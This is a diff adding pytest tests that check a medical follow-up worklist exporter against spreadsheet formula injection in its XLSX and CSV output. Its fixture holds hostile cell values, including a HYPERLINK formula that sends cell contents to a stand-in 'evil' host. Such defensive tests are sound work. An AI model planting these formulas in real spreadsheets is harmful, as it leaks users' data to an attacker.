@@ -11,9 +11,11 @@ from collections.abc import Iterator
 import pytest
 from openpyxl import load_workbook
 
+from bonepath.engine.findings import Finding
 from bonepath.population.export import headers, worklist_csv, worklist_xlsx
 from bonepath.population.registry import RegistryEvaluation, evaluate_registry
-from bonepath.population.worklist import WorklistFilter
+from bonepath.population.worklist import WorklistFilter, WorklistItem
+from bonepath.vocab import FindingKind, Severity
 from population.support import AS_OF, small_registry_records, stored
 
 
@@ -97,3 +99,40 @@ def test_xlsx_rows_follow_their_items_fill_and_empty_due(registry: RegistryEvalu
             assert row[2].number_format == "yyyy-mm-dd"
     assert 0 < undated < len(items)
     assert {item.severity.value for item in items} >= {"high", "medium"}
+
+
+# ---- formula injection (issue 13 item 3) -----------------------------------------------------
+
+EVIL_ID = '=HYPERLINK("http://evil/?"&A1,"x")'
+
+
+def _hostile_item() -> WorklistItem:
+    """An item whose patient, source and hospital ids came from a hostile import file."""
+    finding = Finding(
+        rule="ADH-03",
+        kind=FindingKind.ACTION,
+        severity=Severity.HIGH,
+        title_zh="逾期超过4周：主动随访",
+        title_en="overdue by more than 4 weeks",
+        due=dt.date(2026, 8, 24),
+        values={"drug": "denosumab", "overdue_days": 37},
+        sources=("test",),
+    )
+    return WorklistItem(EVIL_ID, "@SUM(1+1)", "-2+3", "oncology", AS_OF, finding)
+
+
+def test_xlsx_holds_hostile_ids_as_text_never_as_formulas() -> None:
+    data = worklist_xlsx([_hostile_item()], AS_OF, "1.0.0")
+    sheet = load_workbook(io.BytesIO(data))["工作清单"]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    row = list(sheet.iter_rows(min_row=3, values_only=True))[0]
+    assert row[3:6] == (EVIL_ID, "@SUM(1+1)", "-2+3")  # the text is kept as it was
+    assert sheet["A3"].value == dt.datetime(2026, 9, 30) and sheet["A3"].is_date
+    assert sheet["C3"].value == dt.datetime(2026, 8, 24)  # dates stay Excel dates
+
+
+def test_csv_neutralises_hostile_ids_with_a_leading_quote() -> None:
+    table = list(csv.reader(io.StringIO(worklist_csv([_hostile_item()]).decode("utf-8-sig"))))
+    assert table[1][3:6] == ["'" + EVIL_ID, "'@SUM(1+1)", "'-2+3"]
+    assert table[1][0] == "2026-09-30" and table[1][7] == "ADH-03"  # other cells unchanged
